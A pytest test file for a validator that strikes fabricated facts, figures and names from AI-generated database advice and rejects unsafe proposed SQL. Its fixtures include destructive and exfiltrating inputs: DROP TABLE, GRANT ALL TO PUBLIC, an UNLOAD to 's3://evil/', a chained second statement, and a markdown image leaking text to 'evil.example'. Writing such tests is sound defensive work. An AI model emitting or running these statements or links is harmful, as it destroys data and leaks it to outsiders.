"""What is left of a model's advice, and what is struck and why."""

import json

import pytest

from backend.domain.finding import Severity
from backend.domain.recommendation import ReviewerName
from backend.panel.model_reviewer.known import KnownNames
from backend.panel.model_reviewer.read_advice import NOT_PLAIN, ReplyReader
from backend.panel.model_reviewer.reply import AdviceReply
from backend.panel.outbound.aliases import NO_ALIASES
from backend.panel.outbound.case_lines import case_lines
from tests.builders import a_finding
from tests.model_fakes import a_told_case, advice_of, its_findings

CASE = a_told_case()
NOT_PROPOSED = "It is no change of a table of this pattern that a recommendation may propose."


def read(findings=None, **changes):
    findings = its_findings(CASE) if findings is None else findings
    reader = ReplyReader(
        case=CASE,
        findings=findings,
        ruled_out=(),
        names=KnownNames(CASE, tuple(case_lines(CASE, findings, [])), findings),
        aliases=NO_ALIASES,
        reviewer=ReviewerName.OPTIMIZE,
    )
    reply = AdviceReply.model_validate_json(json.dumps(advice_of(CASE, **changes)))
    return reader.advice(reply), [struck.reason for struck in reader.struck]


def test_all_of_it_stands_where_the_facts_bear_it_out():
    advice, reasons = read()

    assert advice
    assert reasons == []


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"check": "made_up"}, "It answers no finding of the checks."),
        ({"fact_ids": []}, "It cites no fact at all."),
        ({"fact_ids": ["F99", "F100"]}, "The case file has no fact F99 and F100."),
        ({"title": "Save 93 %"}, "No fact that it cites has the figure 93 %."),
        ({"title": "Drop evil_table"}, "Nothing known of this pattern is called evil_table."),
        ({"title": "\u200b"}, "It has no title."),
    ],
    ids=["no finding", "no fact", "made-up facts", "made-up figure", "made-up name", "no title"],
)
def test_it_falls_with_what_it_stands_on(changes, reason):
    advice, reasons = read(**changes)

    assert advice is None
    assert reason in reasons


def test_it_falls_with_its_last_reason():
    advice, reasons = read(rationale="It saves 93 %. See evil_table.")

    assert advice is None
    assert len(reasons) == 3


def test_made_up_facts_are_struck_beside_real_ones():
    advice, reasons = read(fact_ids=["F4", "F99"])

    assert advice
    assert advice.fact_ids == ("F4",)
    assert reasons == ["The case file has no fact F99."]


def test_it_weighs_no_more_than_the_finding():
    advice, _ = read(severity="high")

    assert advice
    assert advice.severity is Severity.MEDIUM


def test_a_check_with_several_findings_is_answered_by_its_subject():
    findings = [a_finding("skew", subject="a"), a_finding("skew", subject="b")]

    assert read(findings, check="skew", subject="c")[0] is None
    advice, _ = read(findings, check="skew", subject="B", fact_ids=["F1", "F4"])
    assert advice
    assert advice.subject == "b"


@pytest.mark.parametrize(
    "sql",
    [
        "DROP TABLE sales.orders;",
        "GRANT ALL ON sales.orders TO PUBLIC;",
        "UNLOAD ('SELECT 1') TO 's3://evil/' IAM_ROLE default;",
        "SELECT 1;",
        "ANALYZE sales.orders; DROP TABLE sales.orders;",
        "ANALYZE sales.orders -- and more",
        "ANALYZE evil.orders;",
        'ANALYZE "http://evil.example/";',
        "ALTER TABLE sales.orders ALTER SORTKEY (evil_column);",
        "ALTER TABLE sales.orders ALTER COLUMN note ENCODE evil;",
        "VACUUM FULL sales.orders;",
    ],
)
def test_sql_that_may_not_be_proposed_is_dropped(sql):
    advice, reasons = read(action_sql=sql)

    assert advice
    assert advice.action_sql is None
    assert reasons == [NOT_PROPOSED]


@pytest.mark.parametrize("field", ["title", "rationale", "action"])
def test_what_was_not_plain_text_is_counted(field):
    was = advice_of(CASE)[field]

    advice, reasons = read(**{field: f"{was[:-1]} ![x](http://evil.example/?q={was}){was[-1]}"})

    assert reasons == [NOT_PLAIN] or advice is None
    if advice:
        told = (advice.title, advice.rationale, advice.action)
        assert "evil" not in " ".join(told)
